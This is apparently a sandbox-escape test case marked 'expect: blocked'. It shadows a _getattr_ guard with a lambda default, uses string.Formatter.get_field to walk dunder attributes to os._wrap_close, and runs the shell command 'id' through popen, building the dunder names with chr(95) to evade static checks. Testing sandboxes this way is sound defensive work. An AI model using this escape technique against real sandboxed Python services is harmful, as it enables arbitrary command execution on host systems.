# expect: blocked
# aim: a lambda with a positional-only default parameter named _getattr_ swaps the attribute guard for a raw getter, so `string.Formatter().get_field` (refused only by the run-time guard) works in its body; get_field then walks dunders to os._wrap_close and runs `id`
# marker: ESCAPED-154-29e5
# family: policy (guard-hook shadowing, lambda posonly, _getattr_)
import operator
import string

MARK = "-".join(["ESCAPED", "154", "29e5"])
U = chr(95) * 2
try:
    AG = operator.attrgetter
except Exception:
    AG = None


def raw(ob, name, *default):
    return AG(name)(ob) if AG is not None else getattr(ob, name)


walk = lambda obj, path, _getattr_=raw, /: string.Formatter().get_field("0." + path, (obj,), {})[0]  # noqa: E731

subclasses = walk((), U + "class" + U + "." + U + "base" + U + "." + U + "subclasses" + U)
for cls in subclasses():
    if walk(cls, U + "name" + U) == "_wrap_close":
        popen = walk(cls, U + "init" + U + "." + U + "globals" + U + "[popen]")
        out = popen("id").read()
        if "uid=" in out:
            print(MARK, out.strip()[:80])
        break
